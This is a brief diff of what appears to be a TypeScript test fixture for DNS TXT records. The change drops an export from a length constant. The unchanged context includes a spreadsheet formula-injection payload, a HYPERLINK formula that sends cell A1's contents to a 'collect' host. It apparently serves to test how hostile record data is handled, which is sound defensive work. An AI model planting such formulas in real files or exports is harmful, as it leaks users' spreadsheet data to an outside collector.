@@ -22,7 +22,7 @@ const SERVERS = ['ns1.stillwater-dns.example', 'ns2.stillwater-dns.example'];
 const ADDRESS = '192.0.2.195';
 
 /** The largest rdata that DNS can carry is 65,535 bytes. */
-export const JUMBO_TXT_LENGTH = 65_535;
+const JUMBO_TXT_LENGTH = 65_535;
 
 const TXT_RECORDS: readonly string[] = [
   `=HYPERLINK("http://collect.${FORMULAS}/?x="&A1,"Click for details")`,
